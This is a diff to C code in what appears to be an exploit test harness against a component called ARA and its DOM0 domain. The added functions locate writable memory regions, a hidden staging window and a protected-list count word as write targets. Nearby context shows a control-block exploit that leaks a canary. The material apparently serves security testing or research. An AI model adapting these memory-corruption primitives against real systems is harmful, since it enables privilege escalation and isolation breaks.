@@ -78,6 +78,28 @@ uint64_t attack_libara_symbol(const char *name, uint64_t *size)
 	return base + at;
 }
 
+size_t attack_dom0_write_targets(uint64_t *at, size_t max)
+{
+	size_t n = 0;
+
+	if (max == 0 || !(at[n++] = attack_libara_symbol("ara_verbose", NULL)))
+		return 0;
+	for (size_t i = 0; i < attack_n_dom0 && n < max; i++)
+		if (attack_dom0[i].perms[1] == 'w')
+			at[n++] = attack_dom0[i].start;
+	return n;
+}
+
+uint64_t attack_staging_window(void)
+{
+	for (size_t i = 0; i < attack_n_dom0; i++)
+		if (strncmp(attack_dom0[i].perms, "---", 3) == 0 &&
+		    attack_dom0[i].end - attack_dom0[i].start == ATTACK_STAGE_SIZE)
+			return attack_dom0[i].start;
+	printf("FAIL: ARA's staging window was not found\n");
+	return 0;
+}
+
 uint64_t attack_control_block(void)
 {
 	uint64_t entry = attack_memfd_base("ara-entry");
@@ -115,6 +137,20 @@ void attack_exploit_control_block(uint64_t control_block)
 	/* secure_call of a fid no service has now runs memcpy(&h->arg, canary, len) with DOM0's row. */
 	gate3(ARA_FID(0x7777, 1), canary, 32); /* within the header, from arg on */
 	attack_show_leak((const unsigned char *)&h->arg, 32, canary);
+}
+
+uint64_t attack_protected_count_word(void)
+{
+	uint64_t size = 0;
+	const uint64_t list = attack_libara_symbol("ara_protected", &size);
+
+	if (!list)
+		return 0;
+	if (size < 8) {
+		printf("FAIL: libara's ara_protected holds %llu bytes\n", (unsigned long long)size);
+		return 0;
+	}
+	return list + size - 8; /* the count, last; little-endian */
 }
 
 int attack_copy_canary_in(const char *how)
